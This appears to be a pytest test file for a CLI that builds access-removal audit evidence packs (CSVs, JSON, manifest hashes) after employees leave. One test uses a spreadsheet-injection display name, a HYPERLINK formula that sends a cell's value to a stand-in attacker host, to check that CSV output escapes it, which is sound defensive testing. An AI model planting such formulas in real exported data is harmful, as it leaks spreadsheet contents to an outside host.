"""`reconciler audit evidence` on a real cycle: check, three people leave, check, approve,
apply; then a fourth leaves and her plan waits for review."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from reconciler import demo
from reconciler.audit.evidence import (
    EXCEPTION_COLUMNS,
    TERMINATION_COLUMNS,
    Period,
    assemble,
    render,
    spreadsheet_cell,
)
from reconciler.audit.timeline import Leaver, PersonTimeline, Removal
from reconciler.cli import main
from reconciler.testing.access_repo import Company, company

TODAY = datetime.now(UTC).date().isoformat()
FILES = ["MANIFEST", "evidence.json", "exceptions.csv", "summary.md", "terminations.csv"]


@dataclass(frozen=True)
class Pack:
    company: Company
    out: Path

    def build(self, out: Path, since: str = TODAY, until: str = TODAY) -> Result:
        return self.company.cli(
            "audit", "evidence", "--since", since, "--until", until, "--out", str(out)
        )

    def rows(self, name: str) -> list[dict[str, str]]:
        text = (self.out / name).read_text(encoding="utf-8")
        return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture(scope="module")
def pack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pack]:
    tmp = tmp_path_factory.mktemp("evidence")
    with company(tmp, policy=demo.POLICY + "deadline: 24h\n") as c:
        assert c.cli("check").exit_code == 0
        c.leave()
        assert c.cli("check").exit_code == 0
        assert c.cli("approve", "--app", "wiki", "--as", demo.REVIEWER).exit_code == 0
        applied = c.cli("apply", "--confirm")
        assert applied.exit_code == 0, applied.output
        # alice leaves too; her plan is proposed and left waiting for review.
        c.idp.set_active(c.idp_ids.users["alice.liddell"], False)
        assert c.cli("check").exit_code == 0
        built = Pack(c, tmp / "pack")
        result = built.build(built.out)
        assert result.exit_code == 0, result.output
        assert "4 people left" in result.output
        yield built


def test_done_removal_names_plan_approvers_and_hours(pack):
    rows = {r["person"]: r for r in pack.rows("terminations.csv")}
    assert sorted(rows) == [
        "alice.liddell@example.com",
        "bob.builder@example.com",
        "judy.hale@example.com",
        "peggy.carter@example.com",
    ]
    bob = rows["bob.builder@example.com"]
    assert bob["identity_source"] == "corp" and bob["app"] == "wiki"
    assert bob["username"] == "bob.builder" and bob["detected_status"] == "deprovisioned"
    assert bob["approvers"] == demo.REVIEWER
    assert bob["approval"].startswith("merge ")
    (journal,) = (pack.company.repo / "history/wiki").glob("*.yaml")
    assert bob["plan_id"] and bob["plan_id"] in journal.name
    assert bob["outcome"] == "done" and bob["applied_at"] >= bob["detected_at"]
    assert 0 <= float(bob["hours_to_removal"]) < 1
    assert bob["deadline_hours"] == "24.00" and bob["within_deadline"] == "yes"
    assert rows["peggy.carter@example.com"]["detected_status"] == "missing"


def test_left_at_is_the_sources_time_and_hours_count_from_detection(pack):
    rows = {r["person"]: r for r in pack.rows("terminations.csv")}
    bob = rows["bob.builder@example.com"]
    # The SCIM IdP's meta.lastModified of the deactivation, in the access repo's format;
    # the check saw it afterwards.
    assert len(bob["left_at"]) == 20 and bob["left_at"].endswith("Z")
    assert bob["left_at"] <= bob["detected_at"]
    applied = datetime.fromisoformat(bob["applied_at"].replace("Z", "+00:00"))
    detected = datetime.fromisoformat(bob["detected_at"].replace("Z", "+00:00"))
    assert float(bob["hours_to_removal"]) == round((applied - detected).total_seconds() / 3600, 2)
    # Gone from the source: it gives no time of that.
    assert rows["peggy.carter@example.com"]["left_at"] == ""
    data = json.loads((pack.out / "evidence.json").read_text(encoding="utf-8"))
    (row,) = [t for t in data["terminations"] if t["person"] == "bob.builder@example.com"]
    assert row["left_at"] == bob["left_at"] and row["detected_at"] == bob["detected_at"]


def test_unapplied_leaver_is_an_open_exception(pack):
    alice = next(r for r in pack.rows("terminations.csv") if r["person"].startswith("alice"))
    assert alice["outcome"] == "open" and alice["applied_at"] == ""
    assert alice["hours_to_removal"] == "" and alice["within_deadline"] == ""
    (exception,) = pack.rows("exceptions.csv")
    assert exception["person"] == "alice.liddell@example.com"
    assert exception["username"] == "alice.liddell"
    assert exception["plan_id"] and exception["reason"] == (
        f"plan {exception['plan_id']} waiting for review"
    )
    assert exception["past_deadline"] == "no"


def test_summary_counts_and_controls(pack):
    data = json.loads((pack.out / "evidence.json").read_text(encoding="utf-8"))
    assert data["schema_version"] == 1
    assert data["period"] == {"since": TODAY, "until": TODAY}
    summary = data["summary"]
    assert summary["people_who_left"] == 4 and summary["accounts"] == 4
    assert summary["removed"] == 3 and summary["still_open"] == 1
    assert summary["deadline_breaches"] == 0
    assert 0 <= summary["median_hours_to_removal"] <= summary["worst_hours_to_removal"]
    assert len(data["terminations"]) == 4 and len(data["exceptions"]) == 1
    text = (pack.out / "summary.md").read_text(encoding="utf-8")
    assert "| people who left | 4 |" in text and "| removed | 3 |" in text
    assert "| still open at the end of the period | 1 |" in text
    for control in ("SOC 2 CC6.2", "27001", "A.5.18", "PCI DSS", "8.2.5"):
        assert control in text


def test_manifest_holds_each_files_hash_and_the_commit_range(pack):
    assert sorted(p.name for p in pack.out.iterdir()) == FILES
    lines = (pack.out / "MANIFEST").read_text(encoding="utf-8").splitlines()
    hashes = dict(reversed(line.split("  ", 1)) for line in lines if not line.startswith("#"))
    assert sorted(hashes) == sorted(set(FILES) - {"MANIFEST"})
    for name, digest in hashes.items():
        assert hashlib.sha256((pack.out / name).read_bytes()).hexdigest() == digest
    first = pack.company.git.run("rev-list", "--max-parents=0", "HEAD").strip()
    head = pack.company.git.head()
    assert f"# commits: {first} {head}" in lines


def test_the_same_period_gives_byte_identical_files(pack, tmp_path):
    again = tmp_path / "again"
    result = pack.build(again)
    assert result.exit_code == 0, result.output
    for name in FILES:
        assert (again / name).read_bytes() == (pack.out / name).read_bytes(), name
    assert b"\r\n" not in (again / "terminations.csv").read_bytes()


def test_a_non_empty_out_is_refused(pack, tmp_path):
    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
    result = pack.build(tmp_path)
    assert result.exit_code == 1
    assert "not empty" in result.output
    assert [p.name for p in tmp_path.iterdir()] == ["notes.txt"]
    # An empty directory that exists is fine.
    (tmp_path / "empty").mkdir()
    assert pack.build(tmp_path / "empty").exit_code == 0


@pytest.mark.parametrize(
    ("since", "until"),
    [("2026-13-01", TODAY), ("yesterday", TODAY), (TODAY, "2026/01/01"), (TODAY, "2000-01-01")],
)
def test_a_bad_date_or_a_backwards_period_is_refused(pack, tmp_path, since, until):
    result = pack.build(tmp_path / "out", since, until)
    assert result.exit_code == 1
    assert "--since" in result.output or "--until" in result.output
    assert not (tmp_path / "out").exists()


def test_a_period_with_nobody_leaving_gives_headers_only(pack, tmp_path):
    out = tmp_path / "quiet"
    result = pack.build(out, "2000-01-01", "2000-12-31")
    assert result.exit_code == 0, result.output
    terminations = (out / "terminations.csv").read_text(encoding="utf-8")
    assert terminations == ",".join(TERMINATION_COLUMNS) + "\n"
    assert (out / "exceptions.csv").read_text(encoding="utf-8") == ",".join(
        EXCEPTION_COLUMNS
    ) + "\n"
    assert "# commits: none none" in (out / "MANIFEST").read_text(encoding="utf-8")
    assert json.loads((out / "evidence.json").read_text())["summary"]["people_who_left"] == 0


def test_a_hostile_display_name_cannot_become_a_formula(tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    users, _ = demo.idp_seed()
    for user in users:
        if user["userName"] == "bob.builder":
            user["displayName"] = hostile
    with company(tmp_path, idp_users=users) as c:
        assert c.cli("check").exit_code == 0
        c.idp.set_active(c.idp_ids.users["bob.builder"], False)
        assert c.cli("check").exit_code == 0
        out = tmp_path / "pack"
        result = c.cli("audit", "evidence", "--since", TODAY, "--until", TODAY, "--out", str(out))
        assert result.exit_code == 0, result.output
        (row,) = csv.DictReader(io.StringIO((out / "terminations.csv").read_text()))
        assert row["person_name"] == "'" + hostile
        (exception,) = csv.DictReader(io.StringIO((out / "exceptions.csv").read_text()))
        assert exception["person_name"] == "'" + hostile
        # JSON is data, not a spreadsheet: the name stays as the source gave it.
        data = json.loads((out / "evidence.json").read_text())
        assert data["terminations"][0]["person_name"] == hostile


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell(f"a{start}") == f"a{start}"


def test_a_removal_after_the_period_is_still_open_in_it():
    detected = datetime(2026, 3, 31, 20, 0, tzinfo=UTC)
    leaver = Leaver(
        "corp", "i1", "carol@example.com", "carol", "Carol", "suspended", detected, "c1"
    )
    removal = Removal(
        app="wiki",
        account_id="a1",
        username="carol",
        detected_at=detected,
        detected_status="suspended",
        detected_commit="c1",
        how="plan",
        plan="p1",
        approved_by=("rev",),
        approval="merge m1",
        approved_at=detected + timedelta(days=1),
        removed_at=detected + timedelta(days=1, hours=1),
        outcome="done",
        deadline=timedelta(hours=24),
    )
    timeline = PersonTimeline("i1", (), (), (), (removal,), ())
    args = dict(
        sources={"wiki": "corp"},
        deadlines={"wiki": timedelta(hours=24)},
        protected={},
        now=datetime(2026, 6, 1, tzinfo=UTC),
    )
    march = assemble(
        Period(date(2026, 3, 1), date(2026, 3, 31)), ["x"], [(leaver, timeline)], **args
    )
    (row,) = march.terminations
    assert row.outcome == "open" and row.applied_at is None and row.plan == ""
    (exception,) = march.exceptions
    assert exception.reason == "no removal applied by the end of the period"
    april = assemble(
        Period(date(2026, 3, 1), date(2026, 4, 30)), ["x"], [(leaver, timeline)], **args
    )
    (row,) = april.terminations
    assert row.outcome == "done" and row.within_deadline is False
    assert not april.exceptions and april.summary.breaches == 1
    assert render(april) == render(april)


def test_a_period_is_judged_as_of_its_end(tmp_path: Path) -> None:
    """Plans proposed on day 2 are approved and applied on the morning of day 3: in a
    pack for day 2, those accounts are still open, waiting for review, aged to the end
    of day 2; in a pack for days 2-3 they are removed."""
    from bench import year

    shape = year.Shape(apps=2, app_size=200, big_size=2000, days=3, review_next_morning=True)
    made = year.build(shape, tmp_path / "access")

    def pack_for(until: str, out: Path) -> dict[str, list[dict[str, str]]]:
        result = CliRunner().invoke(main, [
            "audit", "evidence", "--since", "2025-01-02", "--until", until, "--out", str(out),
            "--repo", str(made.repo),
        ])  # fmt: skip
        assert result.exit_code == 0, result.output
        return {
            name: list(csv.DictReader(io.StringIO((out / name).read_text(encoding="utf-8"))))
            for name in ("terminations.csv", "exceptions.csv")
        }

    day2 = pack_for("2025-01-02", tmp_path / "day2")
    day3 = pack_for("2025-01-03", tmp_path / "day3")
    open_then = day2["exceptions.csv"]
    assert open_then, "the day-2 leavers' accounts were still active at its end"
    assert all(row["reason"].endswith("waiting for review") for row in open_then)
    # Detected at 06:00 on day 2: 18 hours by the end of the day, within the 24 h deadline
    # then (judged as of now, it would be long past it).
    assert {row["past_deadline"] for row in open_then} == {"no"}
    removed_later = {(r["app"], r["account_id"]) for r in open_then}
    outcomes = {
        (r["app"], r["account_id"]): r["outcome"]
        for r in day3["terminations.csv"]
        if (r["app"], r["account_id"]) in removed_later
    }
    assert outcomes and set(outcomes.values()) == {"done"}
